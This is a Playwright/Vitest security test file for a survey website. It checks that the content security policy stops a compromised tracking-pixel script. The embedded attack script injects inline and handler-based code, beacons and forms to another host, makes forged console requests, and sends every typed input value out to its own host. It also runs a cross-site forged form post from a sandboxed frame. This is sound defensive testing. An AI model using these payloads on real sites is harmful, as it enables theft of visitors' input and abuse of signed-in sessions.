import type { Page } from "playwright-core";
import { beforeEach, describe, expect } from "vitest";
import { startStub } from "../stubs/stub-server.ts";
import { answersC } from "../support/answers.ts";
import { calm, siteInChromium } from "../support/browser.ts";
import { addPerson, signedInCookie } from "../support/console-people.ts";
import { during } from "../support/during.ts";
import { holds } from "../support/holds.ts";
import { counts } from "../support/store-reader.ts";
import { live } from "../support/survey-page.ts";
import { answerUpTo, FormVisitor, hiddenFields } from "../support/visitors.ts";

/** What the network of a pixel could have its script do, by name; each returns the result. */
const attacks = `
  const added = (tag, given) => new Promise((done) => {
    const element = Object.assign(document.createElement(tag), given);
    element.onload = () => done("loaded");
    element.onerror = () => done("refused");
    document.head.append(element);
    setTimeout(() => done("nothing came"), 1500);
  });
  const tried = async (work) => { try { return await work(); } catch (error) { return "refused"; } };
  const read = (address, options) => fetch(address, options).then((answer) => answer.status);
  // In a turn of its own: what a test evaluates may evaluate.
  window.attack = (name, elsewhere, own) => new Promise((done) => {
    setTimeout(async () => done(await attacks[name](elsewhere, own)));
  });
  const attacks = {
    "another host's script": (elsewhere) => added("script", { src: elsewhere + "/more.js" }),
    "an inline script": async () => { await added("script", { textContent: "window.ranInline = true" }); return window.ranInline ? "ran" : "refused"; },
    "a handler in markup": async () => {
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ranHandler = true'>");
      await new Promise((done) => setTimeout(done, 500));
      return window.ranHandler ? "ran" : "refused";
    },
    "eval": () => tried(() => (0, eval)("'ran'")),
    "a request to another host": (elsewhere) => tried(() => read(elsewhere + "/fetched", { mode: "no-cors" })),
    "a beacon to another host": (elsewhere) => { navigator.sendBeacon(elsewhere + "/beacon", "x"); return "sent"; },
    "an image of another host": (elsewhere) => added("img", { src: elsewhere + "/image.gif" }),
    "a socket to another host": (elsewhere) => tried(() => new Promise((done) => {
      const socket = new WebSocket(elsewhere.replace("http", "ws"));
      socket.onopen = () => done("open");
      socket.onerror = () => done("refused");
    })),
    "a form to another host": (elsewhere) => {
      const form = Object.assign(document.createElement("form"), { method: "post", action: elsewhere + "/form" });
      document.body.append(form);
      form.submit();
      return "submitted";
    },
    "another base": (elsewhere) => { document.head.append(Object.assign(document.createElement("base"), { href: elsewhere })); return document.baseURI.startsWith(elsewhere) ? "taken" : "refused"; },
    "a frame of another host": async (elsewhere) => { await added("iframe", { src: elsewhere + "/frame" }); return "asked"; },
    "a frame of the console": async () => {
      const frame = Object.assign(document.createElement("iframe"), { src: "/console" });
      document.body.append(frame);
      await new Promise((done) => setTimeout(done, 1000));
      return tried(() => frame.contentDocument.body.innerText.includes("Inbox") ? "read" : "refused");
    },
    "a worker": () => tried(() => new Promise((done) => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = () => done("ran");
      worker.onerror = () => done("refused");
    })),
    "a service worker": () => tried(async () => {
      const own = performance.getEntriesByType("resource").find(({ name }) => name.startsWith(location.origin + "/assets/") && name.endsWith(".js"));
      await navigator.serviceWorker.register(own.name, { type: "module" });
      return "registered";
    }),
    "the console's pages": () => tried(() => read("/console")),
    "a press in the console": () => tried(() => read("/console/deliveries", {
      method: "POST",
      body: new URLSearchParams({ destination: "lead-prosper", intent: "pause", why: "x" }),
    })),
    "a window of the console": () => tried(async () => {
      const other = window.open("/console");
      await new Promise((done) => setTimeout(done, 1500));
      return other.document.body.innerText.includes("Inbox") ? "read" : "refused";
    }),
    "what is typed, to its own host": (elsewhere, own) => {
      const typed = [...document.querySelectorAll("input")].map(({ value }) => value).join(" ");
      new Image().src = own + "/tr?typed=" + encodeURIComponent(typed);
      return "sent";
    },
    "another address of this window": (elsewhere) => { location.href = elsewhere + "/left"; return "left"; },
  };
`;

const network = during(() =>
  startStub(({ path }) => ({
    body: path.endsWith(".js") ? attacks : "",
    headers: { "Content-Type": path.endsWith(".js") ? "text/javascript" : "text/plain" },
  })),
);
const elsewhere = during(() =>
  startStub(() => ({ body: "", headers: { "Access-Control-Allow-Origin": "*" } })),
);
const { site, it, journey } = siteInChromium(
  calm,
  () => ({
    "pixels.meta": "1234567890123456",
    "pixels.meta-script": `${network.origin}/fbevents.js`,
    "pixels.meta-image": `${network.origin}/tr`,
    "scripts.retreaver-campaign": "campaign",
    "scripts.retreaver-script": `${network.origin}/calls.js`,
    "scripts.retreaver-host": network.origin,
  }),
  { sameTab: false },
);
beforeEach(() => {
  network.requests.length = 0;
  elsewhere.requests.length = 0;
});

type Attacked = Window & { attack?: (name: string, elsewhere: string, own: string) => Promise<string> };

async function attacked(page: Page, name: string): Promise<string> {
  await page.goto(`${site.url}/survey/c?affid=389`);
  await live(page);
  // Not by `waitForFunction`, which evaluates a text.
  await expect.poll(() => page.evaluate(() => "attack" in window)).toBe(true);
  return page.evaluate(([name, elsewhere, own]) => (window as Attacked).attack!(name, elsewhere, own), [
    name,
    elsewhere.origin,
    network.origin,
  ] as const);
}

/** Chromium tells of each attempt. */
const noisy = { allowed: [/./s] };

describe("the script of an allowed pixel's host", () => {
  it.for([
    ["another host's script", "refused"],
    ["an inline script", "refused"],
    ["a handler in markup", "refused"],
    ["eval", "refused"],
    ["a request to another host", "refused"],
    ["a beacon to another host", "sent"],
    ["an image of another host", "refused"],
    ["a socket to another host", "refused"],
    ["a form to another host", "submitted"],
    ["another base", "refused"],
    ["a frame of another host", "asked"],
    ["a worker", "refused"],
    ["a service worker", "refused"],
  ] as const)("reaches nobody through %s", holds("T142"), ([name, said]) =>
    journey(async ({ page }) => {
      expect(await attacked(page, name)).toBe(said);
      await page.waitForTimeout(200);
      expect(elsewhere.requests).toEqual([]);
      expect(page.url()).toContain("/survey/c");
    }, noisy),
  );

  it.for([
    ["the console's pages", 403],
    ["a press in the console", 403],
    ["a frame of the console", "refused"],
    ["a window of the console", "refused"],
  ] as const)(
    "learns nothing through %s from a browser that is signed in there",
    holds("T142"),
    ([name, said]) =>
      journey(async ({ page, context }) => {
        const ana = addPerson(site, "ana", "leads-masked");
        const cookie = await signedInCookie(site, ana);
        await context.addCookies(
          cookie.split("; ").map((each) => {
            const [name = "", ...value] = each.split("=");
            return { name, value: value.join("="), url: site.url };
          }),
        );
        expect(await attacked(page, name)).toBe(said);
        // The person's own presses count.
        await page.goto(`${site.url}/console/deliveries`);
        expect(await page.locator("h1").textContent()).toBe("Deliveries");
      }, noisy),
  );

  it.for(["what is typed, to its own host", "another address of this window"])(
    "can do what the page it is on can do: %s",
    (name) =>
      journey(async ({ page }) => {
        await attacked(page, name);
        const reached = () => [...network.requests, ...elsewhere.requests].map(({ path }) => path);
        await expect.poll(reached).toContain(name.startsWith("what") ? "/tr" : "/left");
      }, noisy),
  );

  it.for([
    "/do-not-sell-my-information/",
    "/es/do-not-sell-my-information/",
    "/receipt/",
    "/console/sign-in",
  ])("is not loaded at %s", (path) =>
    journey(async ({ page }) => {
      const answer = await page.goto(site.url + path, { waitUntil: "networkidle" });
      expect(network.requests).toEqual([]);
      expect(answer!.headers()["content-security-policy"]).not.toContain(network.origin);
      await page.goto(`${site.url}/contact/`);
      await expect.poll(() => network.requests.map(({ path }) => path)).toContain("/calls.js");
    }, noisy),
  );
});

describe("a sandboxed frame of another site's page, which posts somebody's last form", () => {
  it.for(["localhost", "127.0.0.1"])(
    "at %s signs no consent for the browser that opens it",
    holds("T26"),
    (host) =>
      journey(async ({ page }) => {
        const attacker = new FormVisitor(site.url, (request) => {
          request.headers.delete("cookie");
          return fetch(request);
        });
        await attacker.open("/survey/c");
        await answerUpTo(attacker, "c", "PhoneAndZip");
        const fields = { ...hiddenFields(attacker.screen.html), ...answersC.PhoneAndZip };
        const before = counts(site.databaseFile);
        await page.goto(`http://${host}:${new URL(elsewhere.origin).port}/`);
        const posted = page.waitForResponse((answer) => answer.request().method() === "POST");
        await page.evaluate(
          ([action, fields]) => {
            const form = Object.assign(document.createElement("form"), { method: "post", action });
            for (const [name, value] of Object.entries(fields)) {
              const input = document.createElement("input");
              input.setAttribute("name", name);
              input.setAttribute("value", value);
              form.append(input);
            }
            const frame = document.createElement("iframe");
            frame.setAttribute("sandbox", "allow-forms allow-scripts");
            frame.srcdoc = `${form.outerHTML}<script>document.forms[0].submit()</script>`;
            document.body.append(frame);
          },
          [`${site.url}/survey/c`, fields] as const,
        );
        expect((await posted).status()).toBe(403);
        expect(counts(site.databaseFile)).toEqual(before);
      }, noisy),
  );
});
